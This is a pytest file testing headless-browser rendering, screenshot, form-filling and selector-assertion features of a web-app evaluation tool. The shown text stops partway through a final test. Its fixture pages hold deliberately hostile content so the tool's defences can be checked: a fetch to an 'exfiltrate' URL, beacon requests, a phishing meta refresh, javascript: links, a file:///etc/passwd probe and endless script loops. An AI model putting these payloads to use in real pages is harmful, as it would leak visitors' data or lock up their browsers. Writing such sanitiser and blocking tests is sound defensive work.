"""Tests of the browser primitives RENDER_DOM, SCREENSHOT, P18 and P19 (saasbench.services.browser).

Pure tests (sanitiser, URL guard, legacy normalisation) need no browser. The others drive a
real headless Chromium (Debian ``chromium`` + ``playwright``) against pages served on
127.0.0.1 only: a tiny stdlib server defined here (JS-rendered and hostile pages) and the
bundled TeamNotes app (form login -> admin dashboard). They fail (not skip) when Playwright or
Chromium is missing.
"""

from __future__ import annotations

import asyncio
import json
import os
import socket
import threading
import time
from collections.abc import Iterator
from http.cookiejar import Cookie
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from apps.teamnotes import serve_in_thread

from saasbench.dag import DagLoadError, load_dag_data
from saasbench.evaluation.context import RunContext, RunOptions, Target
from saasbench.evaluation.engine import Engine
from saasbench.evaluation.results import Status, StepResult
from saasbench.primitives.registry import REGISTRY, PrimitiveInputs
from saasbench.services.auth import load_auth_profile
from saasbench.services.browser import (
    BrowserUnavailable,
    allowed_hosts_for,
    check_url,
    find_chromium,
    identity_cookies,
    sanitize_html,
)
from saasbench.services.http import Identity

AUTH_YAML = Path(__file__).resolve().parent / "apps" / "teamnotes_auth.yaml"

try:
    import playwright  # noqa: F401

    HAVE_PLAYWRIGHT = True
except ImportError:  # pragma: no cover
    HAVE_PLAYWRIGHT = False

# Not a skip: CI installs both (scripts/test.sh); a machine without them fails loudly.
assert HAVE_PLAYWRIGHT and find_chromium(), "needs playwright (pip) and chromium (apt-get install chromium)"

LOREM = "Lorem ipsum dolor sit amet, consectetur adipiscing elit. " * 8


# --- helpers ---------------------------------------------------------------------------------------
def run(ctx: RunContext, code: str, raw: dict[str, Any]) -> StepResult:
    """Run one step the way the engine does: resolve (except raw fields), validate, call."""
    spec = REGISTRY.spec(code)
    assert spec is not None and spec.fn is not None and spec.inputs is not None
    resolved = {k: (v if k in spec.raw_fields else ctx.resolve(v)) for k, v in raw.items()}
    return spec.fn(spec.inputs.model_validate(resolved), ctx)


def normalisations(code: str, inputs: dict[str, Any]) -> list[str]:
    dag = {
        "nodes": [
            {"id": "N", "steps": [{"type": code, "inputs": inputs}], "scoring": {"method": "binary", "maxScore": 1}}
        ]
    }
    return [i.message for i in load_dag_data(dag).issues if i.kind == "normalisation"]


def issues(code: str, inputs: dict[str, Any]) -> list[str]:
    dag = {
        "nodes": [
            {"id": "N", "steps": [{"type": code, "inputs": inputs}], "scoring": {"method": "binary", "maxScore": 1}}
        ]
    }
    try:
        found = load_dag_data(dag).issues
    except DagLoadError as exc:
        found = exc.issues
    return [f"{i.kind}: {i.message}" for i in found]


def descendants(root: int) -> dict[int, str]:
    """pid -> command line of every live process below ``root`` (read from /proc)."""
    parents: dict[int, int] = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            stat = Path(f"/proc/{entry}/stat").read_text()
            fields = stat[stat.rindex(")") + 2 :].split()
            if fields[0] == "Z":
                continue
            parents[int(entry)] = int(fields[1])
        except (OSError, ValueError, IndexError):
            continue
    out: dict[int, str] = {}
    frontier = [root]
    while frontier:
        parent = frontier.pop()
        for pid, ppid in parents.items():
            if ppid == parent and pid not in out:
                try:
                    out[pid] = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
                except OSError:
                    out[pid] = ""
                frontier.append(pid)
    return out


def alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
    except (OSError, IndexError):
        return False


def closed_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


# --- a tiny page server ----------------------------------------------------------------------------
PAGES: dict[str, str] = {
    "/static.html": f"""<!DOCTYPE html><html><head><title>Static</title><style>p {{ color: red }}</style></head>
<body><h1 class="title big">Static page</h1><ul id="items"><li>one</li><li>two</li><li>three</li></ul>
<p onclick="steal()">{LOREM}</p><a href="javascript:alert(1)">bad link</a><!-- secret comment --></body></html>""",
    "/js.html": """<!DOCTYPE html><html><body><div id="app">loading</div>
<script>
  document.getElementById('app').innerHTML = '<h2 id="made">Rendered by JavaScript</h2><p>' + 'word '.repeat(80) + '</p>';
</script></body></html>""",
    "/fetch-same.html": """<!DOCTYPE html><html><body><div id="out">waiting</div>
<script>fetch('/data.json').then(r => r.json()).then(d => {
  document.getElementById('out').textContent = 'Loaded: ' + d.message + ' ' + 'x'.repeat(300); });</script></body></html>""",
    "/form.html": """<!DOCTYPE html><html><body><h1>Contact</h1>
<form id="f" onsubmit="event.preventDefault(); document.getElementById('done').textContent = 'Thanks ' + document.getElementById('name').value + ' / ' + document.getElementById('color').value;">
<input id="name" name="name"><select id="color"><option value="r">Red</option><option value="g">Green</option></select>
<button id="send" type="submit">Send</button></form><p id="done"></p></body></html>""",
    "/loop.html": """<!DOCTYPE html><html><body><p id="before">before the loop</p>"""
    + LOREM
    + """
<script>while (true) {}</script><p>after</p></body></html>""",
    "/late-loop.html": """<!DOCTYPE html><html><body><p>late loop page</p>"""
    + LOREM
    + """
<script>setTimeout(() => { while (true) {} }, 100)</script></body></html>""",
    "/huge.html": """<!DOCTYPE html><html><body><div id="root"></div><script>
  const root = document.getElementById('root'); const parts = [];
  for (let i = 0; i < 50000; i++) parts.push('<div class="row">row ' + i + '</div>');
  root.innerHTML = parts.join('');</script></body></html>""",
    "/busy.html": """<!DOCTYPE html><html><body><p>busy page</p><div id="root"></div><script>
  const parts = []; for (let i = 0; i < 400000; i++) parts.push('<div><span>cell ' + i + '</span></div>');
  document.getElementById('root').innerHTML = parts.join('');</script></body></html>""",
    "/external.html": """<!DOCTYPE html><html><body><h1>External fetches</h1><p>"""
    + LOREM
    + """</p>
<img src="http://203.0.113.7/pixel.png"><img src="http://example.com/logo.png">
<script>fetch('http://example.com/exfiltrate?x=1').catch(() => {}); new Image().src = 'http://198.51.100.9/beacon';
  try { new WebSocket('ws://example.com/socket'); } catch (e) {}</script></body></html>""",
    "/alert.html": """<!DOCTYPE html><html><body><p id="t">dialogs page</p>"""
    + LOREM
    + """
<script>alert('hello'); confirm('sure?'); prompt('name?'); document.getElementById('t').textContent = 'after dialogs';</script>
</body></html>""",
    "/refresh.html": """<!DOCTYPE html><html><head><meta http-equiv="refresh" content="0;url=http://example.com/phish"></head>
<body><p>"""
    + LOREM
    + """</p></body></html>""",
    "/popup.html": """<!DOCTYPE html><html><body><p>"""
    + LOREM
    + """</p><script>window.open('/static.html'); window.open('http://example.com/');</script></body></html>""",
    "/tiny.html": "<html><body><p>hi</p></body></html>",
}


class PageHandler(BaseHTTPRequestHandler):
    def log_message(self, format: str, *args: Any) -> None:
        pass

    def do_GET(self) -> None:
        path = self.path.split("?", 1)[0]
        if path in PAGES:
            return self._send(200, PAGES[path].encode(), "text/html; charset=utf-8")
        if path == "/data.json":
            return self._send(200, json.dumps({"message": "same-host data"}).encode(), "application/json")
        if path == "/whoami":
            auth = self.headers.get("Authorization", "none")
            cookie = self.headers.get("Cookie", "none")
            body = f"<html><body><h1>Who am I</h1><p id='auth'>auth={auth}</p><p id='cookie'>cookie={cookie}</p><p>{LOREM}</p></body></html>"
            return self._send(200, body.encode(), "text/html")
        if path == "/error":
            return self._send(
                500, f"<html><body><h1>Internal error</h1><p>{LOREM}</p></body></html>".encode(), "text/html"
            )
        if path == "/download":
            self.send_response(200)
            self.send_header("Content-Type", "application/octet-stream")
            self.send_header("Content-Disposition", 'attachment; filename="payload.bin"')
            self.send_header("Content-Length", "1024")
            self.end_headers()
            self.wfile.write(b"\0" * 1024)
            return None
        return self._send(404, b"<html><body><h1>Not found</h1></body></html>", "text/html")

    def _send(self, status: int, body: bytes, ctype: str) -> None:
        self.send_response(status)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@pytest.fixture(scope="module")
def pages() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), PageHandler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def teamnotes() -> Iterator[str]:
    server, _thread, base = serve_in_thread()
    yield base
    server.shutdown()
    server.server_close()


@pytest.fixture
def make_ctx(tmp_path: Path) -> Iterator[Any]:
    made: list[RunContext] = []

    def make(base_url: str, *, auth: bool = False, node_timeout_s: float = 60.0) -> RunContext:
        ctx = RunContext(
            Target(base_url=base_url),
            options=RunOptions(node_timeout_s=node_timeout_s),
            auth_profile=load_auth_profile(AUTH_YAML) if auth else None,
        )
        ctx.vars["evidence_dir"] = str(tmp_path / "evidence")
        ctx.start_node_clock(node_timeout_s)
        made.append(ctx)
        return ctx

    yield make
    for ctx in made:
        ctx.close()


# --- pure tests ------------------------------------------------------------------------------------
def test_sanitiser_drops_active_content_and_keeps_text() -> None:
    raw = (
        "<!DOCTYPE html><html><head><base href='http://evil.test/'><meta http-equiv='refresh' content='0;url=http://evil.test'>"
        "<meta charset='utf-8'><script>var a = '<p>not html</p>';</script><style>b{}</style></head>"
        "<body onload='x()'><!-- comment --><h1 class='big  title'>Title &amp; more</h1>"
        "<a href=' jav&#x09;ascript:alert(1)'>x</a><a href='/ok' onmouseover='y()'>ok</a>"
        "<svg><g><script>z()</script></g></svg><iframe srcdoc='<b>x</b>'></iframe><noscript><p>ns</p></noscript>"
        "<img src='data:image/png;base64,"
        + "A" * 1000
        + "'><div style='width:expression(alert(1))'>  many   spaces  </div></body></html>"
    )
    dom, cut = sanitize_html(raw)
    assert not cut
    for bad in (
        "script",
        "not html",
        "onload",
        "onmouseover",
        "comment",
        "javascript",
        "svg",
        "iframe",
        "srcdoc",
        "noscript",
        "expression",
        "evil.test",
        "refresh",
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        "<style",
    ):
        assert bad not in dom, bad
    assert '<h1 class="big title">Title &amp; more</h1>' in dom
    assert '<a href="/ok">ok</a>' in dom
    assert "<div> many spaces </div>" in dom and '<meta charset="utf-8">' in dom
    stripped, _ = sanitize_html(raw, strip_classes=True)
    assert "<h1>Title &amp; more</h1>" in stripped


def test_sanitiser_caps_output() -> None:
    dom, cut = sanitize_html("<p>" + "word " * 100_000 + "</p>", max_chars=5000)
    assert cut and len(dom) <= 5000


def test_url_guard_and_cookie_domains() -> None:
    ctx = RunContext(Target(base_url="http://127.0.0.1:8000"))
    assert check_url(ctx, "http://127.0.0.1:8000/admin") is None
    assert check_url(ctx, "http://localhost:3000/") is None  # loopback app: any loopback name and port
    assert "not the app's host" in (check_url(ctx, "http://example.com/") or "")
    assert "only http(s)" in (check_url(ctx, "file:///etc/passwd") or "")
    assert "only http(s)" in (check_url(ctx, "javascript:alert(1)") or "")
    assert allowed_hosts_for("https://app.example.test/x") == frozenset({"app.example.test"})
    ident = Identity(role="admin")
    for domain, name in (("127.0.0.1", "sid"), ("evil.test", "other"), (".127.0.0.1", "dotted")):
        ident.cookies.jar.set_cookie(
            Cookie(
                0,
                name,
                "v",
                None,
                False,
                domain,
                True,
                domain.startswith("."),
                "/",
                True,
                False,
                None,
                False,
                None,
                None,
                {"HttpOnly": None},
            )
        )
    cookies = identity_cookies(ident, "http://127.0.0.1:8000")
    assert sorted(c["name"] for c in cookies) == ["dotted", "sid"]
    assert all(c["domain"] == "127.0.0.1" and c["httpOnly"] for c in cookies)


def test_legacy_inputs_are_normalised() -> None:
    p18 = normalisations(
        "P18",
        {"url": "/x", "action": "navigate", "selector": "#a", "wait_ms": 8000, "screenshot_path": "/tmp/out/login.png"},
    )
    assert "P18: single 'action'/'selector' -> steps[0]" in p18
    assert "P18: 'wait_ms' -> 'action_timeout_ms'" in p18
    assert any("screenshot_path" in m for m in p18)
    spec = REGISTRY.spec("P18")
    model = spec.inputs.model_validate(
        {
            "url": "/x",
            "action": "click",
            "selector_any_of": ["#a", "#b"],
            "wait_ms": 500,
            "screenshot_path": "/tmp/out/login.png",
        }
    )
    assert model.steps[0].action == "click" and model.steps[0].selectors() == ["#a", "#b"]
    assert model.action_timeout_ms == 500 and model.screenshot and model.name == "login"
    steps = spec.inputs.model_validate(
        {"steps": [{"action": "goto", "url": "/"}, {"action": "input", "selector": "#n", "value": 5}]}
    ).steps
    assert steps[1].action == "fill" and steps[1].text() == "5"
    assert any(
        "authenticate: true" in m
        for m in normalisations(
            "P19", {"url": "/", "authenticate": True, "assertions": [{"selector": "h1", "shouldExist": True}]}
        )
    )
    assert any(
        "as_role" in m for m in normalisations("P19", {"url": "/", "authenticate": "admin", "assertions": ["h1"]})
    )
    assert any("networkidle" in m for m in normalisations("RENDER_DOM", {"url": "/", "wait_until": "networkidle0"}))
    assert any("out_dir" in m for m in normalisations("SCREENSHOT", {"url": "/", "out_dir": "/tmp/shots"}))
    # the reference's documented inputs are understood (no "not understood" warnings)
    assert not [
        m
        for m in issues(
            "RENDER_DOM",
            {
                "urls": ["/a", "/b"],
                "wait_until": "networkidle",
                "settle_ms": 2000,
                "timeout_ms": 20000,
                "viewport": {"width": 1280, "height": 800},
                "wait_for_selector": "#app",
                "max_chars": 100000,
                "strip_classes": True,
            },
        )
        if "warning" in m or "error" in m
    ]
    assert not [
        m
        for m in issues("SCREENSHOT", {"url": "/", "name": "home", "full_page": False, "viewport": "800x600"})
        if "warning" in m or "error" in m
    ]
    assert any(
        "error" in m for m in issues("P18", {"url": "/", "steps": [{"action": "click"}]})
    )  # click needs a selector
    assert any("error" in m for m in issues("RENDER_DOM", {"wait_until": "load"}))  # no url


# --- RENDER_DOM ------------------------------------------------------------------------------------
def test_render_dom_of_a_javascript_page(pages: str, make_ctx: Any) -> None:
    ctx = make_ctx(pages)
    result = run(ctx, "RENDER_DOM", {"url": "/js.html", "settle_ms": 100})
    assert result.passed, result.message
    dom = ctx.vars["rendered_dom"]
    assert "Rendered by JavaScript" in dom and "<script" not in dom and "loading" not in dom
    assert ctx.vars["rendered_dom_url"] == f"{pages}/js.html"
    assert ctx.vars["rendered_dom_length"] == len(dom)
    assert ctx.node_scope["rendered_dom"] == dom  # the current node's later steps (P17) see it too
    page = result.evidence["pages"][0]
    assert page["status"] == 200
    saved = Path(page["file"]["path"])
    assert saved.read_text() == dom and saved.parent == Path(ctx.vars["evidence_dir"])
    assert len(page["file"]["sha256"]) == 64


def test_render_dom_sanitises_and_strips_classes(pages: str, make_ctx: Any) -> None:
    ctx = make_ctx(pages)
    result = run(
        ctx,
        "RENDER_DOM",
        {"url": "{{base_url}}/static.html", "settle_ms": 0, "strip_classes": True, "wait_until": "load"},
    )
    assert result.passed, result.message
    dom = ctx.vars["rendered_dom"]
    assert "<h1>Static page</h1>" in dom
    for bad in ("onclick", "javascript:", "secret comment", "color: red", "class="):
        assert bad not in dom


def test_render_dom_multi_url_form(pages: str, make_ctx: Any) -> None:
    ctx = make_ctx(pages)
    result = run(ctx, "RENDER_DOM", {"urls": ["/js.html", f"{pages}/static.html"], "settle_ms": 0})
    assert result.passed, result.message
    dom = ctx.vars["rendered_dom"]
    assert f"<!-- {pages}/js.html -->" in dom and f"<!-- {pages}/static.html -->" in dom
    assert dom.index("Rendered by JavaScript") < dom.index("Static page")
    assert ctx.vars["rendered_dom_url"] == [f"{pages}/js.html", f"{pages}/static.html"]
    assert len(result.evidence["pages"]) == 2

    bad = run(ctx, "RENDER_DOM", {"urls": ["/static.html", "/missing.html"], "settle_ms": 0})
    assert not bad.passed and not bad.unreachable
    assert "1/2 pages failed" in bad.message and "404" in bad.message


def test_render_dom_status_and_size_failures(pages: str, make_ctx: Any) -> None:
    ctx = make_ctx(pages)
    error = run(ctx, "RENDER_DOM", {"url": "/error", "settle_ms": 0})
    assert not error.passed and not error.unreachable and "answered 500" in error.message
    tiny = run(ctx, "RENDER_DOM", {"url": "/tiny.html", "settle_ms": 0})
    assert not tiny.passed and "needs more than 200" in tiny.message
    missing = run(ctx, "RENDER_DOM", {"url": "/x", "wait_for_selector": "#never", "timeout_ms": 1500, "settle_ms": 0})
    assert not missing.passed  # 404 and the selector never appears


def test_render_dom_waits_for_same_host_fetches(pages: str, make_ctx: Any) -> None:
    ctx = make_ctx(pages)
    result = run(ctx, "RENDER_DOM", {"url": "/fetch-same.html", "wait_for_selector": "#out:not(:text('waiting'))"})
    assert result.passed, result.message
    assert "Loaded: same-host data" in ctx.vars["rendered_dom"]
    assert "blocked_requests" not in result.evidence


def test_identity_headers_and_cookies_reach_the_page(pages: str, make_ctx: Any) -> None:
    ctx = make_ctx(pages)
    ident = Identity(role="tester", headers={"Authorization": "Bearer t0ken-123"})
    ident.cookies.set("sid", "cookie-abc", domain="127.0.0.1", path="/")
    ctx.auth.active = ident
    result = run(ctx, "RENDER_DOM", {"url": "/whoami", "settle_ms": 0})
    assert result.passed, result.message
    assert "auth=Bearer t0ken-123" in ctx.vars["rendered_dom"]
    assert "cookie=sid=cookie-abc" in ctx.vars["rendered_dom"]
    assert result.evidence["identity"] == "tester"
    anon = run(ctx, "RENDER_DOM", {"url": "/whoami", "settle_ms": 0, "anonymous": True})
    assert anon.passed and "auth=none" in ctx.vars["rendered_dom"] and "cookie=none" in ctx.vars["rendered_dom"]


def test_logged_in_page_via_the_auth_profile(teamnotes: str, make_ctx: Any) -> None:
    ctx = make_ctx(teamnotes, auth=True)
    anonymous = run(ctx, "RENDER_DOM", {"url": "/admin", "settle_ms": 0})
    assert anonymous.passed, anonymous.message  # the login page is a page too
    assert "Admin login" in ctx.vars["rendered_dom"] and "Admin dashboard" not in ctx.vars["rendered_dom"]
    assert anonymous.evidence["pages"][0]["final_url"].endswith("/admin/login")

    ctx.auth.login(ctx, "admin", method="form")
    logged_in = run(ctx, "RENDER_DOM", {"url": "/admin", "settle_ms": 0})
    assert logged_in.passed, logged_in.message
    dom = ctx.vars["rendered_dom"]
    assert "Admin dashboard" in dom and "Signed in as admin" in dom and 'id="users"' in dom

    ctx.auth.activate_anonymous()  # as_role renders as a role without changing the active identity
    as_role = run(ctx, "RENDER_DOM", {"url": "/admin", "settle_ms": 0, "as_role": "admin", "login_method": "form"})
    assert as_role.passed and "Admin dashboard" in ctx.vars["rendered_dom"]
    assert ctx.auth.active.role == "anonymous"


# --- SCREENSHOT ------------------------------------------------------------------------------------
def test_screenshot_writes_a_png(pages: str, make_ctx: Any) -> None:
    ctx = make_ctx(pages)
    result = run(
        ctx, "SCREENSHOT", {"url": "/static.html", "name": "static page", "viewport": "800x600", "settle_ms": 0}
    )
    assert result.passed, result.message
    shot = result.evidence["screenshot"]
    data = Path(shot["path"]).read_bytes()
    assert data.startswith(b"\x89PNG\r\n\x1a\n") and len(data) == shot["bytes"] > 1024
    assert Path(shot["path"]).name.endswith("static-page.png")
    assert ctx.vars["screenshots"] == [shot["path"]]
    assert "Static page" in ctx.vars["rendered_dom"]
    second = run(ctx, "SCREENSHOT", {"url": "/js.html", "full_page": False, "settle_ms": 0})
    assert second.passed and len(ctx.vars["screenshots"]) == 2
    assert ctx.vars["screenshot_urls"] == [f"{pages}/static.html", f"{pages}/js.html"]
    down = run(ctx, "SCREENSHOT", {"url": f"http://127.0.0.1:{closed_port()}/", "timeout_ms": 3000})
    assert not down.passed and down.unreachable and len(ctx.vars["screenshots"]) == 2


# --- P18 -------------------------------------------------------------------------------------------
def test_p18_fills_and_clicks_a_login_form(teamnotes: str, make_ctx: Any) -> None:
    ctx = make_ctx(teamnotes, auth=True)
    result = run(
        ctx,
        "P18",
        {
            "url": "/admin/login",
            "steps": [
                {"action": "fill", "selector": "input[name=username]", "value": "{{admin_username}}"},
                {"action": "fill", "selector": "input[name=password]", "value": "{{admin_password}}"},
                {"action": "click", "selector": "button[type=submit]"},
            ],
            "expect": {"text_contains": "Admin dashboard", "url_contains": "/admin", "selector_visible": "table#users"},
            "screenshot": True,
            "settle_ms": 0,
        },
    )
    assert result.passed, result.message
    assert result.evidence["final_url"].endswith("/admin")
    assert "Admin dashboard" in ctx.vars["last_page_html"]
    assert ctx.vars["rendered_dom"] == ctx.vars["last_page_html"]
    assert Path(ctx.vars["last_screenshot_path"]).stat().st_size > 1024

    wrong = run(
        ctx,
        "P18",
        {
            "url": "/admin/login",
            "settle_ms": 0,
            "steps": [
                {"action": "fill", "selector": "input[name=username]", "value": "admin"},
                {"action": "fill", "selector": "input[name=password]", "value": "nope"},
                {"action": "press", "selector": "input[name=password]", "value": "Enter"},
            ],
            "expect": {"text_contains": "Admin dashboard"},
            "action_timeout_ms": 1500,
        },
    )
    assert not wrong.passed and "expectation failed" in wrong.message


def test_p18_steps_on_a_js_form_and_missing_selector(pages: str, make_ctx: Any) -> None:
    ctx = make_ctx(pages)
    result = run(
        ctx,
        "P18",
        {
            "steps": [
                {"action": "goto", "url": "/form.html"},
                {"action": "type", "selector": "#name", "value": "Ada"},
                {"action": "select", "selector": "#color", "value": "Green"},
                {"action": "click", "selector_any_of": ["#missing", "#send"]},
                {"action": "wait", "wait_ms": 50},
            ],
            "expect": {"text_contains": ["Thanks Ada / g"]},
            "settle_ms": 0,
        },
    )
    assert result.passed, result.message
    started = time.monotonic()
    missing = run(
        ctx,
        "P18",
        {"url": "/form.html", "action": "click", "selector": "#does-not-exist", "wait_ms": 1000, "settle_ms": 0},
    )
    assert not missing.passed and "step 0 (click)" in missing.message and "#does-not-exist" in missing.message
    assert time.monotonic() - started < 15
    offsite = run(ctx, "P18", {"url": "/form.html", "steps": [{"action": "goto", "url": "http://example.com/"}]})
    assert not offsite.passed and "not the app's host" in offsite.message


# --- P19 -------------------------------------------------------------------------------------------
def test_p19_selector_assertions(pages: str, make_ctx: Any) -> None:
    ctx = make_ctx(pages)
    ok = run(
        ctx,
        "P19",
        {
            "url": "/static.html",
            "settle_ms": 0,
            "assertions": [
                {"selector": "h1", "shouldExist": True, "text_contains": "Static"},
                {"selector": "#items li", "count_min": 3, "count_max": 3},
                {"selector": ".absent", "shouldExist": False},
                "ul#items",
            ],
        },
    )
    assert ok.passed, ok.message
    assert ok.value == {"passed": 4, "total": 4, "ratio": 1.0}
    assert [a["count"] for a in ok.evidence["assertions"]] == [1, 3, 0, 1]

    bad = run(
        ctx,
        "P19",
        {
            "url": "/static.html",
            "settle_ms": 0,
            "assertion_timeout_ms": 300,
            "assertions": [
                {"selector": "h1", "text_contains": "Dynamic"},
                {"selector": "li", "shouldExist": False},
                {"selector": "#nope"},
                {"selector": "!!invalid(("},
            ],
        },
    )
    assert not bad.passed and bad.value["passed"] == 0 and bad.value["total"] == 4
    assert "selector error" in bad.evidence["assertions"][3]["message"]

    js = run(ctx, "P19", {"url": "/js.html", "assertions": [{"selector": "#made", "text_contains": "JavaScript"}]})
    assert js.passed, js.message

    # without url: the last rendered page, with JavaScript off and the network closed
    run(ctx, "RENDER_DOM", {"url": "/js.html", "settle_ms": 0})
    stored = run(ctx, "P19", {"assertions": [{"selector": "h2#made"}, {"selector": "script", "shouldExist": False}]})
    assert stored.passed, stored.message and stored.evidence["source"] == "last rendered page"


# --- failures and hostile pages ------------------------------------------------------------------------
def test_unreachable_app_is_reported_as_unreachable(make_ctx: Any) -> None:
    port = closed_port()
    ctx = make_ctx(f"http://127.0.0.1:{port}")
    result = run(ctx, "RENDER_DOM", {"url": "/"})
    assert not result.passed and result.unreachable
    assert "cannot connect" in result.message and "ERR_CONNECTION_REFUSED" in result.message
    assert ctx.vars["rendered_dom"] == ""  # no stale DOM from an earlier page for P17


def test_app_that_never_answers_times_out(make_ctx: Any) -> None:
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)  # accepts connections in the kernel, never answers
    try:
        ctx = make_ctx(f"http://127.0.0.1:{listener.getsockname()[1]}")
        started = time.monotonic()
        result = run(ctx, "RENDER_DOM", {"url": "/", "timeout_ms": 2000})
        elapsed = time.monotonic() - started
        assert not result.passed and result.unreachable and "timeout" in result.message
        assert elapsed < 12, elapsed
    finally:
        listener.close()


def test_node_deadline_bounds_the_page_budget(pages: str, make_ctx: Any) -> None:
    ctx = make_ctx(pages)
    ctx.start_node_clock(2.0)  # the node has 2 s left although the step asks for 60 s
    started = time.monotonic()
    result = run(ctx, "RENDER_DOM", {"url": "/loop.html", "timeout_ms": 60000, "settle_ms": 30000})
    assert time.monotonic() - started < 12
    assert isinstance(result, StepResult)


@pytest.mark.parametrize("path", ["/loop.html", "/late-loop.html"])
def test_infinite_js_loop_is_bounded_and_still_read(pages: str, make_ctx: Any, path: str) -> None:
    ctx = make_ctx(pages)
    started = time.monotonic()
    result = run(ctx, "RENDER_DOM", {"url": path, "timeout_ms": 3000, "settle_ms": 300})
    elapsed = time.monotonic() - started
    assert elapsed < 15, elapsed
    # the blocking script is terminated, then the DOM read
    assert result.passed, result.message
    assert "loop" in ctx.vars["rendered_dom"] and "<script" not in ctx.vars["rendered_dom"]
    # the browser is still usable afterwards
    after = run(ctx, "RENDER_DOM", {"url": "/static.html", "settle_ms": 0})
    assert after.passed, after.message


def test_huge_dom_is_capped(pages: str, make_ctx: Any) -> None:
    ctx = make_ctx(pages)
    started = time.monotonic()
    result = run(ctx, "RENDER_DOM", {"url": "/huge.html", "max_chars": 5000, "timeout_ms": 20000, "settle_ms": 0})
    assert time.monotonic() - started < 30
    assert result.passed, result.message
    page = result.evidence["pages"][0]
    assert page["truncated"] and page["raw_dom_chars"] > 1_000_000
    assert len(ctx.vars["rendered_dom"]) <= 5000 and "row 0" in ctx.vars["rendered_dom"]


def test_renderer_busy_in_native_code_is_a_bounded_failure(pages: str, make_ctx: Any) -> None:
    ctx = make_ctx(pages)
    started = time.monotonic()
    result = run(ctx, "RENDER_DOM", {"url": "/busy.html", "timeout_ms": 3000, "settle_ms": 0})
    assert time.monotonic() - started < 20
    if result.passed:  # a fast machine finished the page: then the DOM is capped like any other
        assert len(ctx.vars["rendered_dom"]) <= 200_000
    else:
        assert "DOM" in result.message or "timeout" in result.message or "did not finish" in result.message
    after = run(ctx, "RENDER_DOM", {"url": "/static.html", "settle_ms": 0})
    assert after.passed, after.message


def test_requests_to_other_hosts_are_blocked(pages: str, make_ctx: Any) -> None:
    ctx = make_ctx(pages)
    result = run(ctx, "RENDER_DOM", {"url": "/external.html", "settle_ms": 300, "timeout_ms": 8000})
    assert result.passed, result.message
    blocked = result.evidence.get("blocked_requests", 0)
    assert blocked >= 3, result.evidence
    assert all("127.0.0.1" not in u for u in result.evidence["blocked_examples"])


def test_dialogs_are_dismissed(pages: str, make_ctx: Any) -> None:
    ctx = make_ctx(pages)
    result = run(ctx, "RENDER_DOM", {"url": "/alert.html", "timeout_ms": 8000, "settle_ms": 200})
    assert result.passed, result.message
    assert "after dialogs" in ctx.vars["rendered_dom"]
    assert result.evidence.get("dialogs_dismissed", 0) >= 3


def test_meta_refresh_to_another_host_fails_bounded(pages: str, make_ctx: Any) -> None:
    ctx = make_ctx(pages)
    started = time.monotonic()
    result = run(ctx, "RENDER_DOM", {"url": "/refresh.html", "timeout_ms": 5000, "settle_ms": 500})
    assert time.monotonic() - started < 15
    assert not result.passed and not result.unreachable
    assert "example.com" in result.message and "blocked" in result.message


def test_popups_and_downloads_are_refused(pages: str, make_ctx: Any) -> None:
    ctx = make_ctx(pages)
    popup = run(ctx, "RENDER_DOM", {"url": "/popup.html", "timeout_ms": 5000, "settle_ms": 300})
    assert popup.passed, popup.message
    assert popup.evidence.get("popups_dismissed", 0) >= 1
    download = run(ctx, "RENDER_DOM", {"url": "/download", "timeout_ms": 5000})
    assert not download.passed
    assert not list(Path(ctx.vars["evidence_dir"]).glob("*payload*"))


def test_works_from_inside_a_running_event_loop(pages: str, make_ctx: Any) -> None:
    ctx = make_ctx(pages)

    async def inside() -> StepResult:
        return run(ctx, "RENDER_DOM", {"url": "/static.html", "settle_ms": 0})

    assert asyncio.run(inside()).passed


def test_missing_chromium_is_an_environment_error(pages: str, make_ctx: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SAASBENCH_CHROMIUM", "/nonexistent/chromium")
    ctx = make_ctx(pages)
    with pytest.raises(BrowserUnavailable, match="cannot launch Chromium"):
        run(ctx, "RENDER_DOM", {"url": "/static.html"})


def test_one_browser_per_run_closed_at_run_end(pages: str, make_ctx: Any) -> None:
    before = set(descendants(os.getpid()))
    ctx = make_ctx(pages)
    assert run(ctx, "RENDER_DOM", {"url": "/static.html", "settle_ms": 0}).passed
    session = ctx.resources["browser"]
    assert run(ctx, "SCREENSHOT", {"url": "/static.html", "settle_ms": 0}).passed
    assert ctx.resources["browser"] is session  # reused, not relaunched
    # the browser's processes (Chromium and the Playwright driver), not whatever else the suite started meanwhile
    started = {
        pid: cmd
        for pid, cmd in descendants(os.getpid()).items()
        if pid not in before and ("chrom" in cmd or "playwright" in cmd)
    }
    chromium = [pid for pid, cmd in started.items() if "chromium" in cmd]
    assert chromium, started
    ctx.close()
    assert "browser" not in ctx.resources
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline and any(alive(pid) for pid in started):
        time.sleep(0.1)
    assert not [pid for pid in started if alive(pid)], "browser processes survived ctx.close()"
    assert not session._thread.is_alive()


# --- through the engine --------------------------------------------------------------------------------
def test_rendered_dom_reaches_the_judge_step(pages: str, tmp_path: Path) -> None:
    seen: list[str] = []

    class FakeJudgeInputs(PrimitiveInputs):
        pass

    def fake_judge(inputs: Any, ctx: RunContext) -> StepResult:
        dom = ctx.node_scope.get("rendered_dom", ctx.vars.get("rendered_dom"))
        seen.append(dom)
        return StepResult(passed=True, judge_score=4.0, judge_range=(0.0, 5.0), message="fake judge: 4/5")

    dag = load_dag_data(
        {
